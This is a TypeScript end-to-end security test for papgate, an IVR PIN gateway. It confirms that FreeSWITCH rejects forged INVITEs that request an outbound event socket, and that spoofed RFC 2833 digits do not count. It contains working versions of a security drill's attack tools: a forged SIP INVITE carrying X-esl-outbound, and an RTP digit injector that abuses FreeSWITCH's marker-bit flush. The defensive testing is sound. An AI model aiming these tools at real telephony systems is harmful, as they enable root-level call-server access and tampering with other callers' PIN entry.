/**
 * FreeSWITCH takes IVR calls from papgate alone, and a call's digits from its caller alone. A drill
 * found both open to strangers: any local user's INVITE to the drachtio_mrf profile naming its own
 * port in X-esl-outbound got FreeSWITCH's outbound event socket in `full` mode (`api system id`:
 * uid 0, the event socket's password, every PAP as typed); and RFC 2833 "123456#" sprayed over the
 * RTP range from another address typed a wrong PAP into someone else's IVR call, charged to the
 * victim. Here the drill's tools, rewritten: an INVITE as fsout.py sent it, and an injector as
 * rtpinject.py, aimed at the call's media port as FreeSWITCH's SDP answer names it.
 */
import assert from 'node:assert/strict';
import dgram from 'node:dgram';
import fs from 'node:fs';
import net from 'node:net';
import path from 'node:path';
import { randomBytes } from 'node:crypto';
import { inviteKey } from '../../src/ivr/fsmedia';
import { freePort } from '../../src/store/embedded';
import {
  sipPort,
  FREESWITCH,
  Harness,
  listenPort,
  sleep,
  TENANT,
  until,
  type E2eDevice,
  type SippResult,
} from './harness';

/** FreeSWITCH's SIP address (the drachtio_mrf profile), which test/e2e/servers.sh picked. */
const FS_SIP = process.env.E2E_FREESWITCH_SIP ?? '127.0.0.1:5080';
/** Where the strangers send from: another address than drachtio-server's and the phones'. */
const STRANGER = '127.0.0.9';

interface InviteAnswer {
  /** the final status FreeSWITCH answered the INVITE with (0: none within the wait) */
  readonly status: number;
  /** whether FreeSWITCH connected to the listener the INVITE named */
  readonly connected: boolean;
}

/**
 * fsout.py: a UDP INVITE to FreeSWITCH's SIP profile as drachtio-fsmrf sends one, naming a TCP
 * listener of ours in X-esl-outbound; waits `waitMs` for the final answer and for FreeSWITCH to
 * connect to that listener. `listen`: the port to listen on; `key`: an X-Papgate-Key to send.
 */
async function strangerInvite(o: {
  from: string;
  listen: number;
  key?: string;
  waitMs?: number;
}): Promise<InviteAnswer> {
  const [host, port] = FS_SIP.split(':') as [string, string];
  const server = net.createServer();
  let connected = false;
  server.on('connection', (c) => {
    connected = true;
    // what the drill did next would run here; hang the channel up instead
    c.on('error', () => undefined);
    c.write('connect\n\nsendmsg\ncall-command: execute\nexecute-app-name: hangup\n\n');
    setTimeout(() => c.destroy(), 1000);
  });
  await new Promise<void>((resolve) => server.listen(o.listen, '127.0.0.1', () => resolve()));
  const udp = dgram.createSocket('udp4');
  await new Promise<void>((resolve) => udp.bind(0, o.from, () => resolve()));
  let status = 0;
  udp.on('message', (m) => {
    const code = /^SIP\/2\.0 (\d{3})/.exec(m.toString())?.[1];
    if (code !== undefined && Number(code) >= 200) status = Number(code);
  });
  const local = udp.address().port;
  const sdp = [
    'v=0',
    `o=- 1 1 IN IP4 ${o.from}`,
    's=-',
    `c=IN IP4 ${o.from}`,
    't=0 0',
    'm=audio 45000 RTP/AVP 0',
    'a=rtpmap:0 PCMU/8000',
    '',
  ].join('\r\n');
  const invite = [
    `INVITE sip:drachtio@${FS_SIP} SIP/2.0`,
    `Via: SIP/2.0/UDP ${o.from}:${local};branch=z9hG4bK${randomBytes(6).toString('hex')}`,
    `From: <sip:a@${o.from}>;tag=${randomBytes(4).toString('hex')}`,
    `To: <sip:drachtio@${FS_SIP}>`,
    `Call-ID: stranger-${randomBytes(8).toString('hex')}`,
    'CSeq: 1 INVITE',
    `Contact: <sip:a@${o.from}:${local}>`,
    'User-Agent: drachtio-fsmrf:whatever',
    `X-esl-outbound: 127.0.0.1:${o.listen}`,
    ...(o.key === undefined ? [] : [`X-Papgate-Key: ${o.key}`]),
    'Max-Forwards: 70',
    'Content-Type: application/sdp',
    `Content-Length: ${Buffer.byteLength(sdp)}`,
    '',
    sdp,
  ].join('\r\n');
  udp.send(invite, Number(port), host);
  const end = Date.now() + (o.waitMs ?? 3000);
  while (Date.now() < end && !connected) await sleep(100);
  udp.close();
  await new Promise((r) => server.close(r));
  return { status, connected };
}

/**
 * rtpinject.py: RFC 2833 events for `digits` from `from` to `to`, as a phone sends them, each digit's
 * packets at once behind an audio packet with the marker bit set. FreeSWITCH flushes its socket when
 * it reads a marker bit, before it looks at the sender, and its flush takes every RFC 2833 packet in
 * the socket as a digit, whoever sent it (switch_rtp.c do_flush): without IGNORE_MARK_BIT the burst
 * typed into calls that took media from the SDP's address alone.
 */
async function injectDigits(from: string, to: { host: string; port: number }, digits: string): Promise<void> {
  const EVENTS: Record<string, number> = { '*': 10, '#': 11 };
  for (let i = 0; i <= 9; i++) EVENTS[String(i)] = i;
  const s = dgram.createSocket('udp4');
  await new Promise<void>((resolve) => s.bind(0, from, () => resolve()));
  let seq = randomBytes(2).readUInt16BE(0);
  let ts = randomBytes(4).readUInt32BE(0);
  const ssrc = randomBytes(4).readUInt32BE(0);
  const packet = (pt: number, marker: boolean, payload: Buffer) => {
    const rtp = Buffer.alloc(12 + payload.length);
    rtp.writeUInt8(0x80, 0);
    rtp.writeUInt8((marker ? 0x80 : 0) | pt, 1);
    rtp.writeUInt16BE(seq++ & 0xffff, 2);
    rtp.writeUInt32BE(ts >>> 0, 4);
    rtp.writeUInt32BE(ssrc, 8);
    payload.copy(rtp, 12);
    return rtp;
  };
  const send = (rtp: Buffer) =>
    new Promise<void>((resolve) => s.send(rtp, to.port, to.host, () => resolve()));
  for (const d of digits) {
    const burst = [packet(0, true, Buffer.alloc(160, 0xff))];
    ts += 160;
    for (let k = 0; k < 6; k++) {
      const end = k >= 3;
      const event = Buffer.alloc(4);
      event.writeUInt8(EVENTS[d]!, 0);
      event.writeUInt8((end ? 0x80 : 0) | 10, 1);
      event.writeUInt16BE(end ? 800 : 160 * (k + 1), 2);
      burst.push(packet(101, k === 0, event));
    }
    await Promise.all(burst.map(send));
    ts += 1200;
    await sleep(150);
  }
  s.close();
}

/** FreeSWITCH's media address in the SDP of the 200 OK a sipp phone received (its -message_file). */
function answeredMedia(messages: string): { host: string; port: number } | null {
  const log = fs.existsSync(messages) ? fs.readFileSync(messages, 'utf8') : '';
  for (const m of log.split(/^-{20,}.*$/m)) {
    if (!/message received/.test(m) || !/^SIP\/2\.0 200 /m.test(m) || !/^CSeq: *\d+ INVITE/im.test(m))
      continue;
    const port = /^m=audio (\d+) /m.exec(m)?.[1];
    const host = /^c=IN IP4 (\S+)/m.exec(m)?.[1];
    if (port !== undefined && host !== undefined) return { host, port: Number(port) };
  }
  return null;
}

describe('e2e: FreeSWITCH takes calls from papgate alone, and digits from the caller alone', function () {
  this.timeout(120000);
  const h = new Harness();
  const d: Record<string, E2eDevice> = {};

  before(async function () {
    await h.start(this);
    for (const [name, mac] of [
      ['strict', '001565e4f001'],
      ['learn', '001565e4f002'],
      ['hijacked', '001565e4f003'],
    ] as const)
      d[name] = await h.device(mac);
  });

  after(() => h.stop());

  it("a local user's INVITE naming its own listener (the drill) gets 403 and no connection", async () => {
    const drill = await strangerInvite({ from: '127.0.0.1', listen: await freePort() });
    assert.deepEqual(drill, { status: 403, connected: false });
  });

  it('one naming a listener FreeSWITCH allows, without the key or with a wrong one, gets 403 and no connection', async () => {
    const allowed = listenPort(7);
    assert.deepEqual(await strangerInvite({ from: '127.0.0.1', listen: allowed }), {
      status: 403,
      connected: false,
    });
    const wrong = randomBytes(32).toString('hex');
    assert.deepEqual(await strangerInvite({ from: '127.0.0.1', listen: allowed, key: wrong }), {
      status: 403,
      connected: false,
    });
  });

  it("papgate's key from another address than drachtio-server's gets 403; from drachtio-server's, FreeSWITCH connects (the check above can see a connection)", async () => {
    const key = inviteKey(FREESWITCH.secret);
    const allowed = listenPort(7);
    assert.deepEqual(await strangerInvite({ from: STRANGER, listen: allowed, key }), {
      status: 403,
      connected: false,
    });
    const own = await strangerInvite({ from: '127.0.0.1', listen: allowed, key, waitMs: 5000 });
    assert.equal(own.connected, true, `FreeSWITCH answered ${own.status} and did not connect`);
    // the key and the listener are what lets a call in: the key alone, naming another listener, does not
    assert.deepEqual(await strangerInvite({ from: '127.0.0.1', listen: await freePort(), key }), {
      status: 403,
      connected: false,
    });
    await until('the test channels to end', async () => (await h.svc!.mediaChannels()) === 0, 10000);
  });

  /**
   * A `needed` phone's *89 call that stays silent for about 7 s after the answer, then types its
   * PAP; meanwhile a stranger injects "123456#" at the call's media port from STRANGER.
   * `sdpAddress`: what the phone's SDP names as its media address (default: where it sends from).
   */
  async function injectedCall(
    name: string,
    dev: E2eDevice,
    o: { sdpAddress?: string; inject: boolean },
  ): Promise<SippResult> {
    const messages = path.join(h.tmp, `${name}-messages.log`);
    let file = h.uacScenario(name, ['play', 'wait_bye'], {
      // three pauses of 2 s, then the PAP: the phone sends nothing before (a phone on mute, or one
      // whose first packets were lost), so that the injected digits come first
      PCAP: h.pcap(name, `   ${dev.pap}#`, 2000),
      WAIT: '30000',
    });
    if (o.sdpAddress !== undefined) {
      const xml = fs.readFileSync(file, 'utf8');
      const natted = xml.split('c=IN IP[media_ip_type] [media_ip]').join(`c=IN IP4 ${o.sdpAddress}`);
      assert.notEqual(natted, xml);
      file = path.join(h.tmp, `${name}-nat.xml`);
      fs.writeFileSync(file, natted);
    }
    const call = h.sipp(file, {
      port: await sipPort(),
      mac: dev.mac,
      password: dev.password,
      extra: ['-trace_msg', '-message_file', messages],
    });
    if (o.inject) {
      const media = await until('the SDP answer', async () => answeredMedia(messages), 15000);
      await sleep(500);
      await injectDigits(STRANGER, media, '123456#');
    }
    return call;
  }

  it("strict (the phone's SDP names where it sends from): the stranger's digits do not count, the phone's PAP does", async () => {
    const dev = d.strict!;
    const call = await injectedCall('strict', dev, { inject: true });
    assert.equal(call.code, 0, call.out);
    assert.deepEqual(await h.outcomesAfter(dev.mac, 1), ['successful']);
    assert.deepEqual(await h.attempts(dev.mac), { consecutive: 0, total: 0, events: 1 });
    const events = (await h.store.events(TENANT, 100)).filter(
      (e) => e.type === 'attempt' && e.mac === dev.mac,
    );
    assert.deepEqual(
      events.map((e) => e.outcome),
      ['successful'],
    );
    await h.idle();
  });

  it('learn (the SDP names an address behind a NAT): the phone is learned from its first packet and its PAP counts', async () => {
    const dev = d.learn!;
    // 127.0.0.77: an address the phone's packets never come from, as a private one behind a NAT
    const call = await injectedCall('learn', dev, { sdpAddress: '127.0.0.77', inject: false });
    assert.equal(call.code, 0, call.out);
    assert.deepEqual(await h.outcomesAfter(dev.mac, 1), ['successful']);
    assert.equal((await h.store.getDevice(TENANT, dev.mac))!.state, 'successful');
    await h.idle();
  });

  it("learn, the stranger's packets first: FreeSWITCH moves the call to the stranger, papgate checks nothing and ends the call; no attempt is charged", async () => {
    const dev = d.hijacked!;
    const from = h.logLines.length;
    const call = await injectedCall('hijacked', dev, { sdpAddress: '127.0.0.77', inject: true });
    assert.equal(call.code, 0, call.out);
    assert.deepEqual(await h.outcomesAfter(dev.mac, 1), ['foreign_media']);
    assert.deepEqual(await h.attempts(dev.mac), { consecutive: 0, total: 0, events: 0 });
    assert.equal((await h.store.getDevice(TENANT, dev.mac))!.state, 'needed');
    assert.ok(
      h.logLines
        .slice(from)
        .some(
          (l) =>
            l.mac === dev.mac &&
            l.msg === 'ivr: media from another address than the caller; entry not checked',
        ),
    );
    await h.idle();
  });
});
